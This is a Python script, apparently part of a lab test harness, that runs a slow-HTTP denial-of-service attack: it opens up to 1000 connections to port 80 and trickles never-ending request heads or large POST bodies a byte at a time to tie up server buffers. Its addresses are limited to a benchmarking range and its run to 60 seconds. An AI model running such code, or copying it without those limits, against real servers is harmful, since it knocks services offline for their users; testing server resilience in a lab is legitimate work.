#!/usr/bin/env python3
"""Lab attacker that holds inspection resources: CONNECTIONS connections from SRC to
DST:80, each sending a POST head at once and then its large body a byte at a time
(MODE bodies), or, for every other one, a request head a byte at a time that never ends
(MODE mixed: these hold head buffers too). Every held connection gets a byte every
0.4 s so none goes idle; MODE idle sends each a request head that never ends at once
and then nothing (the connections go idle holding head buffers). Bounded: stops
after SECONDS, then closes everything.
Prints "held=N refused=M" (connections that were / were not established in 1 s).

usage: slow_holder.py SRC DST CONNECTIONS SECONDS bodies|mixed|idle"""
import ipaddress
import select
import socket
import sys
import time

LAB = ipaddress.ip_network("198.18.0.0/15")


def main():
    src, dst, count, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    mode = sys.argv[5]
    if mode not in ("bodies", "mixed", "idle"):
        sys.exit(f"slow_holder: unknown mode {mode}")
    if ipaddress.ip_address(dst) not in LAB or ipaddress.ip_address(src) not in LAB:
        sys.exit("slow_holder: lab addresses only (198.18.0.0/15)")
    if not 0 < count <= 1000 or not 0 < seconds <= 60:
        sys.exit("slow_holder: 1..1000 connections, 1..60 s")
    end = time.monotonic() + seconds
    pending = []
    for i in range(count):
        s = socket.socket()
        s.bind((src, 0))
        s.setblocking(False)
        s.connect_ex((dst, 80))
        pending.append((i, s))
    held, refused = [], 0
    deadline = time.monotonic() + 1.0
    while pending and time.monotonic() < deadline:
        _, w, _ = select.select([], [s for _, s in pending], [], 0.1)
        still = []
        for i, s in pending:
            if s in w:
                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                    if mode == "mixed" and i % 2 == 0:  # trickled from its first byte
                        held.append([s, b"GET /slow HTTP/1.1\r\nHost: a\r\nX-Slow: ", 0])
                    else:  # sent at once: a head that never ends, or a POST's head
                        first = (b"GET /idle HTTP/1.1\r\nHost: a\r\nX-Idle: " if mode == "idle" else
                                 b"POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n")
                        try:
                            s.send(first)
                        except OSError:
                            pass
                        held.append([s, first, len(first)])
                else:
                    refused += 1
                    s.close()
            else:
                still.append((i, s))
        pending = still
    for _, s in pending:
        refused += 1
        s.close()
    print(f"held={len(held)} refused={refused}", flush=True)
    while time.monotonic() < end:
        for h in held if mode != "idle" else []:
            s, head, at = h
            chunk = head[at:at + 1] if at < len(head) else b"a"
            try:
                s.send(chunk)
                h[2] = at + 1
            except OSError:
                pass
        time.sleep(0.4)
    for s, _, _ in held:
        s.close()


if __name__ == "__main__":
    main()
